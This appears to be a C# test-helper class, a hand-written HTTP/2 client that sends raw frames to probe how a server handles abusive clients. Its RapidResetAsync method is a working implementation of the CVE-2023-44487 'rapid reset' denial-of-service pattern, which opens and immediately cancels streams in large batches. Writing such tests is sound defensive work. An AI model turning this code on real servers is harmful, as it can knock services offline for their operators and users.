using System.Buffers.Binary;
using System.Text;

namespace Ambient.TestCommon;

/// <summary>
/// A deliberately misbehaving HTTP/2 client over any stream (h2c with prior knowledge): it writes frames by hand, so
/// it can do what no well-behaved client library does, and records what the server sends back (GOAWAY, RST_STREAM,
/// responses) and when the server closed the connection.
/// </summary>
public sealed class RawHttp2Client : IAsyncDisposable
{
    public const byte TypeData = 0, TypeHeaders = 1, TypeRstStream = 3, TypeSettings = 4, TypePing = 6, TypeGoAway = 7;
    public const byte FlagEndStream = 1, FlagAck = 1, FlagEndHeaders = 4;

    /// <summary>CANCEL (RFC 9113 section 7): what a client sends when it gives up on a stream.</summary>
    public const uint Cancel = 8;

    /// <summary>INTERNAL_ERROR (RFC 9113 section 7).</summary>
    public const uint InternalError = 2;

    /// <summary>ENHANCE_YOUR_CALM (RFC 9113 section 7).</summary>
    public const uint EnhanceYourCalm = 11;

    private readonly Stream _stream;
    private readonly SemaphoreSlim _writeLock = new(1, 1);
    private readonly TaskCompletionSource<(int LastStreamId, uint ErrorCode, string Debug)> _goAway = new(TaskCreationOptions.RunContinuationsAsynchronously);
    private readonly TaskCompletionSource _closed = new(TaskCreationOptions.RunContinuationsAsynchronously);
    private readonly Task _reader;
    private int _responses;
    private int _resets;

    private RawHttp2Client(Stream stream)
    {
        _stream = stream;
        _reader = Task.Run(ReadLoopAsync);
    }

    /// <summary>Sends the connection preface and an empty SETTINGS frame, and starts reading what the server sends.</summary>
    public static async Task<RawHttp2Client> StartAsync(Stream stream, CancellationToken ct)
    {
        await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), ct);
        var settings = new byte[9];
        WriteFrameHeader(settings, 0, TypeSettings, 0, 0);
        await stream.WriteAsync(settings, ct);
        await stream.FlushAsync(ct);
        return new RawHttp2Client(stream);
    }

    /// <summary>The server's GOAWAY, once one arrived.</summary>
    public Task<(int LastStreamId, uint ErrorCode, string Debug)> GoAway => _goAway.Task;

    /// <summary>Completes when the server closed the connection (or reading it failed).</summary>
    public Task Closed => _closed.Task;

    /// <summary>Response HEADERS frames received.</summary>
    public int Responses => Volatile.Read(ref _responses);

    /// <summary>RST_STREAM frames received.</summary>
    public int Resets => Volatile.Read(ref _resets);

    /// <summary>
    /// A GET for <paramref name="authority"/> (no dynamic HPACK state: static-table indexes and one literal without
    /// indexing), with END_STREAM and END_HEADERS: a complete request in one frame.
    /// </summary>
    public static byte[] GetHeadersBlock(string authority, string path = "/")
    {
        var block = new List<byte> { 0x82, 0x86 }; // :method GET, :scheme http
        if (path == "/")
        {
            block.Add(0x84); // :path /
        }
        else
        {
            AddLiteral(block, 4, path);
        }
        AddLiteral(block, 1, authority);
        return [.. block];
    }

    private static void AddLiteral(List<byte> block, byte nameIndex, string value)
    {
        var bytes = Encoding.ASCII.GetBytes(value);
        if (bytes.Length >= 127) throw new ArgumentException("value too long for a one-byte HPACK length", nameof(value));
        block.Add(nameIndex); // literal header field without indexing, indexed name (RFC 7541 section 6.2.2)
        block.Add((byte)bytes.Length);
        block.AddRange(bytes);
    }

    /// <summary>
    /// The CVE-2023-44487 pattern: opens a stream with a complete request and resets it at once, <paramref name="count"/>
    /// times, written in batches of <paramref name="batch"/> pairs. Stops early when the server sends GOAWAY or the
    /// connection fails; returns how many streams were opened.
    /// </summary>
    public async Task<int> RapidResetAsync(byte[] headersBlock, int firstStreamId, int count, int batch, CancellationToken ct)
    {
        var pair = 9 + headersBlock.Length + 9 + 4;
        var buffer = new byte[pair * batch];
        var sent = 0;
        var streamId = firstStreamId;
        while (sent < count && !_goAway.Task.IsCompleted && !_closed.Task.IsCompleted)
        {
            var n = Math.Min(batch, count - sent);
            var offset = 0;
            for (var i = 0; i < n; i++, streamId += 2)
            {
                WriteFrameHeader(buffer.AsSpan(offset), headersBlock.Length, TypeHeaders, FlagEndStream | FlagEndHeaders, streamId);
                headersBlock.CopyTo(buffer, offset + 9);
                offset += 9 + headersBlock.Length;
                WriteFrameHeader(buffer.AsSpan(offset), 4, TypeRstStream, 0, streamId);
                BinaryPrimitives.WriteUInt32BigEndian(buffer.AsSpan(offset + 9), Cancel);
                offset += 13;
            }
            try
            {
                await WriteAsync(buffer.AsMemory(0, offset), ct);
            }
            catch (IOException)
            {
                break; // the server closed the connection under us
            }
            catch (ObjectDisposedException)
            {
                break;
            }
            sent += n;
        }
        return sent;
    }

    private async Task WriteAsync(ReadOnlyMemory<byte> bytes, CancellationToken ct)
    {
        await _writeLock.WaitAsync(ct);
        try
        {
            await _stream.WriteAsync(bytes, ct);
            await _stream.FlushAsync(ct);
        }
        finally
        {
            _writeLock.Release();
        }
    }

    private static void WriteFrameHeader(Span<byte> destination, int length, byte type, byte flags, int streamId)
    {
        destination[0] = (byte)(length >> 16);
        destination[1] = (byte)(length >> 8);
        destination[2] = (byte)length;
        destination[3] = type;
        destination[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(destination[5..], streamId & int.MaxValue);
    }

    private async Task ReadLoopAsync()
    {
        var header = new byte[9];
        try
        {
            while (true)
            {
                await _stream.ReadExactlyAsync(header);
                var length = (header[0] << 16) | (header[1] << 8) | header[2];
                var type = header[3];
                var flags = header[4];
                var payload = new byte[length];
                await _stream.ReadExactlyAsync(payload);
                switch (type)
                {
                    case TypeSettings when (flags & FlagAck) == 0:
                        var ack = new byte[9];
                        WriteFrameHeader(ack, 0, TypeSettings, FlagAck, 0);
                        await WriteAsync(ack, CancellationToken.None);
                        break;
                    case TypeHeaders:
                        Interlocked.Increment(ref _responses);
                        break;
                    case TypeRstStream:
                        Interlocked.Increment(ref _resets);
                        break;
                    case TypeGoAway when length >= 8:
                        _goAway.TrySetResult((BinaryPrimitives.ReadInt32BigEndian(payload) & int.MaxValue,
                            BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4)), Encoding.ASCII.GetString(payload, 8, length - 8)));
                        break;
                }
            }
        }
        // InvalidOperationException: the stream was disposed under a pending read.
        catch (Exception e) when (e is IOException or EndOfStreamException or ObjectDisposedException or OperationCanceledException
            or InvalidOperationException)
        {
            // The end of the connection, whichever way it came.
        }
        finally
        {
            _closed.TrySetResult();
        }
    }

    public async ValueTask DisposeAsync()
    {
        await _stream.DisposeAsync();
        await _reader;
        _writeLock.Dispose();
    }
}
